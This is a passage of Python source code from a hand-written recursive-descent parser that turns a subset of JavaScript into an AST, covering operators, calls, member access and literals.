        if not self.eat_op("?"):
            return test
        consequent = self.parse_assignment()
        self.expect_op(":")
        alternate = self.parse_assignment(no_in=no_in)
        return ast.ConditionalExpression(test, consequent, alternate)

    def _parse_binary(self, min_precedence: int, no_in: bool = False) -> ast.Node:
        left = self._parse_unary()
        while True:
            token = self.current
            op: Optional[str] = None
            if token.type is TokenType.OPERATOR and token.value in _BINARY_PRECEDENCE:
                op = str(token.value)
            elif token.is_keyword("instanceof"):
                op = "instanceof"
            elif token.is_keyword("in") and not no_in:
                op = "in"
            if op is None:
                return left
            precedence = _BINARY_PRECEDENCE[op]
            if precedence < min_precedence:
                return left
            self.advance()
            right = self._parse_binary(precedence + 1, no_in=no_in)
            if op in ("&&", "||"):
                left = ast.LogicalExpression(op, left, right)
            else:
                left = ast.BinaryExpression(op, left, right)

    def _parse_unary(self) -> ast.Node:
        token = self.current
        if token.is_op("!", "~", "+", "-"):
            self.advance()
            return ast.UnaryExpression(str(token.value), self._parse_unary())
        if token.is_keyword("typeof", "void", "delete"):
            self.advance()
            return ast.UnaryExpression(str(token.value), self._parse_unary())
        if token.is_op("++", "--"):
            self.advance()
            operand = self._parse_unary()
            return ast.UpdateExpression(str(token.value), operand, prefix=True)
        return self._parse_postfix()

    def _parse_postfix(self) -> ast.Node:
        expr = self._parse_call()
        token = self.current
        if token.is_op("++", "--") and token.line == self.tokens[self.pos - 1].line:
            self.advance()
            return ast.UpdateExpression(str(token.value), expr, prefix=False)
        return expr

    def _parse_call(self) -> ast.Node:
        if self.current.is_keyword("new"):
            self.advance()
            callee = self._parse_member_chain(self._parse_primary(), allow_calls=False)
            arguments = self._parse_arguments() if self.current.is_op("(") else []
            expr: ast.Node = ast.NewExpression(callee, arguments)
            return self._parse_member_chain(expr, allow_calls=True)
        return self._parse_member_chain(self._parse_primary(), allow_calls=True)

    def _parse_member_chain(self, expr: ast.Node, allow_calls: bool) -> ast.Node:
        while True:
            if self.eat_op("."):
                name_token = self.advance()
                if name_token.type not in (TokenType.IDENTIFIER, TokenType.KEYWORD):
                    raise self.error("expected property name")
                expr = ast.MemberExpression(
                    expr, ast.Identifier(str(name_token.value)), computed=False
                )
            elif self.current.is_op("["):
                self.advance()
                prop = self.parse_expression()
                self.expect_op("]")
                expr = ast.MemberExpression(expr, prop, computed=True)
            elif allow_calls and self.current.is_op("("):
                expr = ast.CallExpression(expr, self._parse_arguments())
            else:
                return expr

    def _parse_arguments(self) -> List[ast.Node]:
        self.expect_op("(")
        arguments: List[ast.Node] = []
        if not self.current.is_op(")"):
            while True:
                arguments.append(self.parse_assignment())
                if not self.eat_op(","):
                    break
        self.expect_op(")")
        return arguments

    def _parse_primary(self) -> ast.Node:
        token = self.current
        if token.type is TokenType.NUMBER:
            self.advance()
            return ast.NumberLiteral(float(token.value))
        if token.type is TokenType.STRING:
            self.advance()
            return ast.StringLiteral(str(token.value))
        if token.type is TokenType.IDENTIFIER:
            self.advance()
            return ast.Identifier(str(token.value))
        if token.is_keyword("true"):
            self.advance()
            return ast.BooleanLiteral(True)
        if token.is_keyword("false"):
            self.advance()
            return ast.BooleanLiteral(False)
        if token.is_keyword("null"):
            self.advance()
            return ast.NullLiteral()
        if token.is_keyword("undefined"):
            self.advance()
            return ast.UndefinedLiteral()
        if token.is_keyword("this"):
            self.advance()
            return ast.ThisExpression()
        if token.is_keyword("function"):
            self.advance()
            name: Optional[str] = None
            if self.current.type is TokenType.IDENTIFIER:
                name = str(self.advance().value)
            params = self._parse_params()
            body = self.parse_block()
            return ast.FunctionExpression(name, params, body)
        if token.is_op("("):
            self.advance()
            expr = self.parse_expression()
            self.expect_op(")")
            return expr
        if token.is_op("["):
            self.advance()
            elements: List[ast.Node] = []
            if not self.current.is_op("]"):
                while True:
                    elements.append(self.parse_assignment())
                    if not self.eat_op(","):
                        break
            self.expect_op("]")
            return ast.ArrayLiteral(elements)
        if token.is_op("{"):
            self.advance()
            entries: List[Tuple[str, ast.Node]] = []
            if not self.current.is_op("}"):
                while True:
                    key_token = self.advance()
                    if key_token.type in (
                        TokenType.IDENTIFIER,
                        TokenType.STRING,
                        TokenType.KEYWORD,
                    ):
                        key = str(key_token.value)
                    elif key_token.type is TokenType.NUMBER:
                        key = _number_to_key(float(key_token.value))
                    else:
                        raise self.error("bad object literal key")
                    self.expect_op(":")
                    entries.append((key, self.parse_assignment()))
                    if not self.eat_op(","):
                        break
            self.expect_op("}")
            return ast.ObjectLiteral(entries)
        raise self.error("unexpected token")


def _number_to_key(value: float) -> str:
    if value == int(value):
        return str(int(value))
    return repr(value)


def parse(source: str) -> ast.Program:
    """Parse JavaScript source into an AST."""
    return Parser(source).parse_program()
